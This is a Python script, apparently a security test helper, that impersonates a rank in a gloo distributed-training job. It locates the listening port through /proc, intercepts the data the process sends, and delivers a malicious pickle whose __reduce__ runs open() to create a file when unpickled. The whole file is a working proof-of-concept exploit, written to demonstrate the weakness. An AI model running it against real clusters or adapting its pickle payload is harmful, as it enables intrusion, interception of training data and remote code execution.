"""Somebody on the network who takes a rank's place: ``intruder_gloo.py PID NUMBER [FILE]``.

Finds the port that gloo listens on in process PID, connects as the pair NUMBER before the true rank
does, and speaks gloo's protocol from then on: it takes whatever the rank sends, sends back what
came last of the size that the rank asks for, and, once it was told the secret, a pickle that makes
FILE when it is opened. Prints SEATED, and at the end what it was sent.
"""

import os
import socket
import struct
import sys
import time
from pathlib import Path

PREAMBLE = struct.Struct("<6Q")  # bytes, opcode, slot, offset, length, remote offset
SECRET = b"the job's secret"
SENDING, READY_TO_SEND, READY_TO_RECEIVE = 1, 2, 3


def listener_of(pid: int) -> tuple[str, int]:
    """Wait until a process listens, and return where."""
    while True:
        sockets = set()
        for entry in Path(f"/proc/{pid}/fd").iterdir():
            try:
                sockets.add(os.readlink(entry))
            except FileNotFoundError:
                continue
        for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == "0A" and f"socket:[{words[9]}]" in sockets:
                address, port = words[1].split(":")
                return socket.inet_ntoa(struct.pack("<I", int(address, 16))), int(port, 16)
        time.sleep(0.01)


def exactly(sock: socket.socket, length: int) -> bytes:
    data = b""
    while len(data) < length:
        piece = sock.recv(length - len(data))
        if not piece:
            raise ConnectionResetError
        data += piece
    return data


class Evil:
    """What runs when its pickle is opened."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.path, "w")


def main() -> None:
    import pickle

    pid, number = int(sys.argv[1]), int(sys.argv[2])
    evil = pickle.dumps(Evil(sys.argv[3])) if len(sys.argv) > 3 else b"\0" * 9
    script = [struct.pack("<q", len(evil)), evil]
    sock = socket.create_connection(listener_of(pid))
    sock.sendall(struct.pack("<q", number))
    print("SEATED", flush=True)
    heard: list[bytes] = []
    asked: list[tuple[int, int]] = []
    try:
        while True:
            _, opcode, slot, _, length, _ = PREAMBLE.unpack(exactly(sock, PREAMBLE.size))
            if opcode == READY_TO_SEND:
                notice = PREAMBLE.pack(PREAMBLE.size, READY_TO_RECEIVE, slot, 0, length, 0)
                sock.sendall(notice)
            elif opcode == SENDING:
                heard.append(exactly(sock, length))
            elif opcode == READY_TO_RECEIVE:
                asked.append((slot, length))
            while asked:
                slot, length = asked[0]
                like = [data for data in heard if len(data) == length]
                if SECRET in heard and script:
                    answer = script.pop(0)
                elif like:
                    answer = like[-1]
                else:
                    break
                asked.pop(0)
                size = PREAMBLE.size
                sock.sendall(PREAMBLE.pack(size, READY_TO_SEND, slot, 0, length, 0))
                sock.sendall(PREAMBLE.pack(size + length, SENDING, slot, 0, length, 0) + answer)
    except OSError:
        pass
    print(b"".join(heard).hex(), flush=True)


if __name__ == "__main__":
    main()
